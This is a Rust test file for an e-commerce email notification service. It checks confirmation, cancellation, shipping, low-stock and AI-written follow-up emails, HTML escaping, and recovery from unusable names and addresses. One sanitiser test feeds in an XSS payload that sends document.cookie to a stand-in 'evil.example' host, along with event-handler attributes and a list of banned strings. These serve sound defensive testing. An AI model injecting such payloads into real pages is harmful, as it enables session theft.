//! What each event sends to whom, read back from the `.eml` files and the record.

use crate::helpers::{
    ADMIN, Backend, CUSTOMER, DLQ, ITEMS, ai_notification, int, items_total, order_event, order_placed, status_changed,
    text,
};
use contracts::events::OrderEventKind;
use serde_json::json;

fn dollars(cents: i64) -> String {
    format!("${}.{:02}", cents / 100, cents % 100)
}

pub async fn order_placed_sends_one_confirmation(backend: Backend) {
    let app = app!(backend);
    let event = order_event(OrderEventKind::Placed, "Ada Lovelace", CUSTOMER);
    app.publish(&event).await;

    let record = app.wait_for_event(CUSTOMER, event.event_id).await;
    assert_eq!(record["status"], "SENT", "{record}");
    assert_eq!(record["kind"], "ORDER_CONFIRMED", "{record}");
    assert_eq!(record["recipient"], CUSTOMER, "{record}");
    assert_eq!(record["subject"], format!("Order Confirmed — {}", event.payload.order_number), "{record}");
    assert_eq!(int(&record, "attempts"), 1, "{record}");
    assert!(record["last_error"].is_null(), "{record}");
    assert!(record["next_attempt_at"].is_null(), "only a retrying email has one: {record}");
    assert!(record["sent_at"].is_string() && record["created_at"].is_string(), "{record}");

    app.wait_consumed().await;
    let mails = app.mails();
    assert_eq!(mails.len(), 1, "exactly one email: {mails:#?}");
    let mail = &mails[0];
    mail.assert_alternative();
    assert_eq!(mail.subject(), format!("Order Confirmed — {}", event.payload.order_number));
    assert!(mail.decoded("to").contains(CUSTOMER), "{}", mail.raw);
    assert!(mail.decoded("to").contains("Ada Lovelace"), "{}", mail.raw);
    assert!(mail.decoded("from").contains("no-reply@shop.local"), "{}", mail.raw);
    assert!(!mail.header("date").is_empty() && mail.header("message-id").contains('@'), "{}", mail.raw);

    let (text, html) = (mail.text(), mail.html());
    for part in [text, html] {
        assert!(part.contains("Ada Lovelace"), "customer name in:\n{part}");
        assert!(part.contains(&event.payload.order_number), "order number in:\n{part}");
        assert!(part.contains(&dollars(items_total())), "total {} in:\n{part}", dollars(items_total()));
        for (_, quantity, cents) in ITEMS {
            assert!(part.contains(&dollars(cents)), "unit price {} in:\n{part}", dollars(cents));
            assert!(part.contains(&dollars(cents * quantity)), "line total {} in:\n{part}", dollars(cents * quantity));
        }
    }
    // Names and quantities, each in its own form: raw in the text, escaped in the HTML.
    assert!(text.contains("iPhone 15 Pro x 3"), "{text}");
    assert!(text.contains("Mouse <Pro> & Co x 7"), "{text}");
    assert!(html.contains("iPhone 15 Pro"), "{html}");
    assert!(html.contains("Mouse &lt;Pro&gt; &amp; Co"), "item names are escaped in HTML: {html}");
    assert!(!html.contains("<Pro>"), "{html}");
    assert!(html.contains(">3<") && html.contains(">7<"), "quantities in their cells: {html}");
}

pub async fn customer_names_are_escaped_in_html(backend: Backend) {
    let app = app!(backend);
    let name = "Eve <script>alert('x')</script>";
    let event = order_event(OrderEventKind::Placed, name, "eve@example.com");
    app.publish(&event).await;
    let record = app.wait_for_event("eve@example.com", event.event_id).await;
    assert_eq!(record["status"], "SENT", "{record}");

    let mail = app.mail_about(&event.payload.order_number);
    let html = mail.html();
    assert!(!html.to_lowercase().contains("<script"), "a script made it into the HTML: {html}");
    assert!(html.contains("Eve &lt;script&gt;"), "the name is shown escaped: {html}");
    assert!(mail.text().contains(name), "the text part shows the name as written: {}", mail.text());
}

pub async fn cancellation_and_shipping_send_their_emails(backend: Backend) {
    let app = app!(backend);
    let cancelled = order_event(OrderEventKind::Cancelled, "Ada Lovelace", CUSTOMER);
    let order_id = uuid::Uuid::now_v7();
    let confirmed = status_changed(order_id, "PENDING", "CONFIRMED");
    let shipped = status_changed(order_id, "CONFIRMED", "SHIPPED");
    let delivered = status_changed(order_id, "SHIPPED", "DELIVERED");
    app.publish(&cancelled).await;
    app.publish(&confirmed).await;
    app.publish(&shipped).await;
    app.publish(&delivered).await;

    app.wait_for_notifications(CUSTOMER, 3).await;
    app.wait_consumed().await;
    let records = app.notifications(CUSTOMER).await;
    let mut kinds: Vec<&str> = records.iter().map(|r| r["kind"].as_str().unwrap()).collect();
    kinds.sort_unstable();
    assert_eq!(kinds, ["ORDER_CANCELLED", "ORDER_DELIVERED", "ORDER_SHIPPED"], "{records:#?}");
    assert!(records.iter().all(|r| r["status"] == "SENT"), "{records:#?}");
    let confirmed_id = confirmed.event_id.to_string();
    assert!(records.iter().all(|r| r["event_id"] != confirmed_id.as_str()), "CONFIRMED sends nothing");
    assert_eq!(app.mails().len(), 3, "one email per cancelled/shipped/delivered event");

    let cancel_mail = app.mail_about(&format!("Order Cancelled — {}", cancelled.payload.order_number));
    cancel_mail.assert_alternative();
    for part in [cancel_mail.text(), cancel_mail.html()] {
        assert!(part.contains("Ada Lovelace") && part.contains(&cancelled.payload.order_number), "{part}");
        assert!(part.to_lowercase().contains("cancelled"), "{part}");
    }
    let number = &shipped.payload.order_number;
    for (word, sentence) in [("Shipped", "shipped"), ("Delivered", "delivered")] {
        let mail = app.mail_about(&format!("Order {word} — {number}"));
        mail.assert_alternative();
        assert!(mail.decoded("to").contains(CUSTOMER), "{}", mail.raw);
        for part in [mail.text(), mail.html()] {
            assert!(part.contains(number) && part.contains(sentence), "{part}");
            assert!(part.contains("iPhone 15 Pro"), "the items are listed: {part}");
        }
    }
}

pub async fn low_stock_alerts_the_admin(backend: Backend) {
    let app = app!(backend);
    let event = crate::helpers::inventory_low("prod-042", "Mechanical Keyboard", 37, 50);
    app.publish(&event).await;

    let record = app.wait_for_event(ADMIN, event.event_id).await;
    assert_eq!(record["status"], "SENT", "{record}");
    assert_eq!(record["kind"], "LOW_STOCK", "{record}");
    assert_eq!(record["recipient"], ADMIN, "{record}");

    let mail = app.mail_about("Mechanical Keyboard");
    mail.assert_alternative();
    assert!(mail.decoded("to").contains(ADMIN), "{}", mail.raw);
    assert!(mail.subject().contains("37"), "the subject names the quantity: {}", mail.subject());
    for part in [mail.text(), mail.html()] {
        assert!(part.contains("Mechanical Keyboard"), "{part}");
        assert!(part.contains("37"), "available quantity in: {part}");
        assert!(part.contains("prod-042"), "{part}");
    }
    assert!(app.notifications(CUSTOMER).await.is_empty(), "nothing goes to customers");
}

pub async fn ai_follow_up_is_sanitised(backend: Backend) {
    let app = app!(backend);
    let (event_id, message) = ai_notification(json!({
        "order_number": "ORD-20260221-AI000001",
        "customer_email": CUSTOMER,
        "customer_name": "Ada Lovelace",
        "subject": "Ada, your new iPhone deserves a case",
        "body_html": "<p onclick=\"steal()\">Enjoy <b>your</b> phone, Ada!</p>\
                      <script>document.location='https://evil.example/'+document.cookie</script>\
                      <a href=\"https://shop.local/p/prod-003\" onmouseover=\"steal()\">See cases</a>\
                      <img src=\"https://evil.example/pixel.gif\" onerror=\"steal()\">",
    }));
    app.publish_raw(message).await;

    let record = app.wait_for_event(CUSTOMER, event_id).await;
    assert_eq!(record["status"], "SENT", "{record}");
    assert_eq!(record["kind"], "AI_FOLLOW_UP", "{record}");
    assert_eq!(record["subject"], "Ada, your new iPhone deserves a case", "{record}");

    let mail = app.mail_about("deserves a case");
    mail.assert_alternative();
    assert_eq!(mail.subject(), "Ada, your new iPhone deserves a case");
    assert!(mail.decoded("to").contains("Ada Lovelace"), "{}", mail.raw);
    let html = mail.html().to_lowercase();
    assert!(html.contains("enjoy <b>your</b> phone, ada!"), "allowed markup stays: {html}");
    assert!(html.contains("https://shop.local/p/prod-003"), "safe links stay: {html}");
    assert!(html.contains("see cases"), "{html}");
    for banned in ["<script", "document.cookie", "onclick", "onmouseover", "onerror", "steal()", "evil.example"] {
        assert!(!html.contains(banned), "{banned:?} survived sanitising: {html}");
    }
    let text = mail.text();
    assert!(text.contains("Enjoy your phone, Ada!"), "{text}");
    assert!(!text.contains("document.cookie") && !text.contains('<'), "{text}");
}

pub async fn ai_follow_up_without_recipient_sends_nothing(backend: Backend) {
    let app = app!(backend);
    let (_, absent) = ai_notification(json!({
        "order_number": "ORD-20260221-AI000002",
        "customer_name": "Nobody",
        "subject": "Hello",
        "body_html": "<p>Hi</p>",
    }));
    let (_, blank) = ai_notification(json!({
        "order_number": "ORD-20260221-AI000003",
        "customer_email": "  ",
        "subject": "Hello",
        "body_html": "<p>Hi</p>",
    }));
    app.publish_raw(absent).await;
    app.publish_raw(blank).await;
    app.wait_consumed().await;

    let page = app.notifications_page("page_size=100").await;
    assert_eq!(int(&page, "total"), 0, "no record without a recipient: {page}");
    assert!(app.mails().is_empty(), "no email without a recipient");
    assert!(app.dead_letters().await.is_empty(), "a missing recipient is not a poison message");
}

/// Issue 7, defect 1 (the mailer's side): a name with a line break made the mail library panic
/// and killed the consumer. Names are cleaned; an address the library cannot parse fails that
/// one email for good (recorded, dead-lettered, not retried); the next event is emailed.
pub async fn unusable_names_and_addresses_never_stop_the_consumer(backend: Backend) {
    let app = app!(backend);
    // The order API refuses these, but an event from elsewhere (or from before) may carry them.
    let broken_name = order_event(OrderEventKind::Placed, "A\nB\r\0C\u{7f}", "lines@example.com");
    let bad_address = order_event(OrderEventKind::Placed, "Ada", "not an address");
    // PostgreSQL text cannot hold NUL: the record keeps U+FFFD instead, and the address as
    // it came is still refused (not turned into another one).
    let nul_address = order_event(OrderEventKind::Placed, "Ada", "nul\0@example.com");
    let next = order_placed();
    app.publish(&broken_name).await;
    app.publish(&bad_address).await;
    app.publish(&nul_address).await;
    app.publish(&next).await;

    let record = app.wait_for_event("lines@example.com", broken_name.event_id).await;
    assert_eq!(record["status"], "SENT", "{record}");
    let mail = app.mail_about(&broken_name.payload.order_number);
    let to = mail.decoded("to");
    assert!(to.contains("A B C") && to.contains("<lines@example.com>"), "the name is cleaned, not dropped: {to}");

    let failed = app.wait_for_event("not an address", bad_address.event_id).await;
    assert_eq!(failed["status"], "FAILED", "{failed}");
    assert_eq!(int(&failed, "attempts"), 1, "an unusable address is not retried: {failed}");
    assert!(text(&failed, "last_error").contains("not an address"), "{failed}");
    let nul = app.wait_for_event("nul\u{FFFD}@example.com", nul_address.event_id).await;
    assert_eq!(nul["status"], "FAILED", "{nul}");
    assert_eq!(int(&nul, "attempts"), 1, "{nul}");
    let dead = app.wait_for_dead_letters(2).await;
    assert_eq!(dead.len(), 2, "{dead:#?}");
    assert_eq!(dead[1].payload, kit::outbox::message(&nul_address).payload, "the original event, NUL and all");
    assert_eq!(dead[0].topic, DLQ);
    assert_eq!(dead[0].payload, kit::outbox::message(&bad_address).payload, "the original event");
    assert_eq!(dead[0].header("x-original-topic"), Some("order-placed"));
    let reason = dead[0].header("x-dead-letter-reason").unwrap_or_default();
    assert!(reason.contains("not an address"), "{reason}");

    let sent = app.wait_for_event(CUSTOMER, next.event_id).await;
    assert_eq!(sent["status"], "SENT", "the consumer goes on: {sent}");
    app.wait_consumed().await;
    assert_eq!(app.mails().len(), 2, "one email each for the cleaned name and the next order");
    let failed = app.wait_for_event("not an address", bad_address.event_id).await;
    assert_eq!(int(&failed, "attempts"), 1, "still not retried: {failed}");
}
